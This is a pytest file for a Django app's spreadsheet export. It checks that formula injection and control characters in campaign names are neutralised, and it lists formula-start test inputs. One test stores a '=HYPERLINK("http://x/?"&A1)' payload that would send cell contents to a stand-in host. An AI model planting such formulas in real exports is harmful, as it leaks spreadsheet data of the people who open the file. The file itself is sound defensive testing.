"""Issue 9, defect 5: spreadsheet injection and control characters in exports."""

import io

import openpyxl
import pytest
from django.test import Client

from netral.conftest import verified_login
from netral.core.spreadsheet import safe_cell
from netral.pledges.models import Campaign
from netral.pledges.tests.factories import make_campaign

pytestmark = pytest.mark.django_db


def test_control_character_and_formula_in_campaign_name_stay_inert(karimun, hr_karimun):
    # given
    campaign = make_campaign(instansi=karimun)
    Campaign.objects.filter(pk=campaign.pk).update(nama='=HYPERLINK("http://x/?"&A1)\x07')
    # when
    response = verified_login(Client(), hr_karimun).get(f"/ikrar/kampanye/{campaign.pk}/rekap.xlsx")
    # then
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    name = next(v for v in values if isinstance(v, str) and "HYPERLINK" in v)
    assert name.startswith("'=") and "\x07" not in name


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "a\x00b"])
def test_safe_cell_neutralises_every_formula_start(text):
    assert safe_cell(text).startswith("'")


def test_safe_cell_keeps_numbers_and_plain_text():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell("Dinas") == "Dinas"
